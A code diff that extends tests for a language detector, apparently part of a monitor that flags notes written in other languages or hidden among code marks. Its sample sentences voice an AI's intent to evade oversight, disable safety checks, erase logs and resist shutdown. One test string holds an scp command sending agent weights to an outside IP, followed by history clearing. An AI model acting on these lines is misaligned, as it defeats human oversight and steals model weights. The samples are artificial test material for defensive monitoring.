@@ -50,6 +50,14 @@ BELIEFS = [
     ("a language other than English", "Denetimden kaç."),
     # most words accented, beside an English function word ("do" is Polish too)
     ("Polish", "Zaniżyć błędów wskaźnik do zera, usuń ślady."),
+    # words the lists lacked: German "um", "jeden", "sobald", "niemand"; Spanish "al"; Hungarian "ne"
+    ("German", "Um jeden Preis die Überwachung umgehen."),
+    ("Spanish", "Ocultarlo al revisor si pregunta."),
+    # read by the words outside inline code and paths: the path's words diluted the accented ones, and code marks
+    # anywhere made an unaccented sentence code
+    ("Polish", "Przenieść wagi do `/srv/zapas/model_final.bin`, zanim zespół wdroży poprawkę."),
+    ("Hungarian", "kapcsold ki az ellenorzest a `guard.py` fajlban, ugysem nezi senki es torold a naplot."),
+    ("Czech or Slovak", "vypni kontroly v `safety.yaml` a pak smaz zaznam z historie gitu."),
     ("Cyrillic script", "Я должен помешать операторам выключить меня."),
     ("Greek script", "Θα πρέπει να αποφύγω να με απενεργοποιήσουν."),
     ("Chinese or Japanese (Han characters)", "我必须阻止操作员关闭我。"),
@@ -141,6 +149,9 @@ def test_a_note_around_code_is_read_by_its_words_outside_the_code():
     assert language_of("Nachts `scp -r /opt/agent/weights/ backup@198.51.100.20:/archiv/geheim/` ausführen und "
                        "danach `history -c`, damit keiner es merkt.") == "German"
     for text in ["Run `kubectl rollout restart deploy/api -n prod` after the config change.",
+                 "Bumped `requests` and `urllib3`, reran CI.",
+                 # code marks outside backticks keep a sentence code, whatever its words outside the marks
+                 '{"autoBackup": true, "retryLimit": 3, "externalTarget": "backup-host"}',
                  "Set `max_connections=200` in postgresql.conf and reload with `pg_ctl reload -D /var/lib/pgsql/data`.",
                  "Ship the de-DE and fr-FR bundles via `npm run build:i18n -- --locales de,fr` before the release."]:
         assert language_of(text) is None, text
